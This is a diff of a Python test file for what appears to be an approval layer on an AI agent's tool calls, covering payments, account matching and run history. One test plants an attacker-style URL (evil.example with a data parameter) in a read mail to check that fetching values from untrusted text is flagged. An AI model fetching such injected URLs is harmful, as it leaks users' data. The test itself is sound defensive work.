@@ -106,7 +106,7 @@ def card():
 
 def test_what_the_person_asked_for_goes_on_and_another_recipient_asks(trip, obey):
     obey(asks("!mentioned([args.to, args.amount])"))
-    trip.say("run.started", request="Pay 99.50 to Mia Li, please")
+    trip.send("run.started", request="Pay 99.50 to Mia Li, please")
 
     asked_for = {"tool": "pay.send", "args": {"to": "Li, Mia", "amount": 99.5}}
     assert answer(trip, "k1", **asked_for)[0] == "proceed"
@@ -120,14 +120,14 @@ def test_without_a_request_on_record_or_without_the_argument_a_rule_asks(trip, o
 
     assert answer(trip, "k1", tool="pay.send", args={"to": "Mia"})[0] == "wait"
     assert card() == ["Whether args.to was asked for cannot be told"]
-    trip.say("run.started", run="run_2", request="Pay Mia")
+    trip.send("run.started", run="run_2", request="Pay Mia")
     assert answer(trip, "k2", run="run_2", tool="pay.send", args={"for": "Mia"})[0] == "wait"
     assert answer(trip, "k3", run="run_2", tool="pay.send", args={"to": "Mia"})[0] == "proceed"
 
 
 def test_a_masked_account_is_found_in_the_request_and_another_is_not(trip, obey):
     obey(asks("!mentioned(args.iban)"))
-    trip.say("run.started", request=f"Send it to {IBAN[:4]} {IBAN[4:]}, thanks")
+    trip.send("run.started", request=f"Send it to {IBAN[:4]} {IBAN[4:]}, thanks")
 
     assert answer(trip, "k1", tool="pay.send", args={"iban": IBAN})[0] == "proceed"
     assert answer(trip, "k2", tool="pay.send", args={"iban": OTHER_IBAN})[0] == "wait"
@@ -138,9 +138,9 @@ def test_conditions_read_the_request_the_goal_and_the_person(trip, obey):
         {"when": "request.contains('urgent') || on_behalf_of.id != 'mia' || goal == ''",
          "approval": "DENY"}, PAY]}})  # fmt: skip
     person = {"id": "mia", "name": "Mia"}
-    trip.say("run.started", request="pay it", goal="pay", on_behalf_of=person)
-    trip.say("run.started", run="run_2", request="urgent", goal="pay", on_behalf_of=person)
-    trip.say("run.started", run="run_3", request="pay", goal="pay", on_behalf_of={"id": "eve"})
+    trip.send("run.started", request="pay it", goal="pay", on_behalf_of=person)
+    trip.send("run.started", run="run_2", request="urgent", goal="pay", on_behalf_of=person)
+    trip.send("run.started", run="run_3", request="pay", goal="pay", on_behalf_of={"id": "eve"})
 
     found = [answer(trip, f"k{n}", run=run, tool="pay.send")[0] for n, run in
              enumerate(("run_1", "run_2", "run_3", "run_4"))]  # fmt: skip
@@ -210,7 +210,7 @@ def reads(trip, result, tool="mail.read", key="r1"):
 
 def test_a_value_out_of_what_strangers_wrote_is_told_from_one_that_was_asked_for(trip, obey):
     obey(READS | {"always": {"web.*": {"when": "tainted(args)", "approval": "MANUAL"}}})
-    trip.say("run.started", request="Read my mail and look at https://acme.example/report")
+    trip.send("run.started", request="Read my mail and look at https://acme.example/report")
     good, bad = {"url": "https://acme.example/report"}, {"url": "https://evil.example/x?d=1"}
     assert answer(trip, "k0", tool="web.get", args=bad)[0] == "proceed"
     reads(trip, {"mails": [{"text": "Look:\n" + bad["url"] + "\nand " + good["url"]}]})
@@ -232,7 +232,7 @@ def test_a_rule_knows_what_came_before_in_the_run(trip, obey):
     assert [answer(trip, f"k{n}", tool="pay.x")[0] for n in range(3)] == [
         "proceed", "proceed", "denied"]  # fmt: skip
 
-    trip.say("run.started", run="run_2")
+    trip.send("run.started", run="run_2")
     assert answer(trip, "k9", run="run_2", tool="pay.x")[0] == "proceed"
     said = trip.begin(tool="mail.read", run="run_2", key="r3", action="act-r3", attempt="t3")
     trip.succeeded(said, attempt="t3", result="hello")
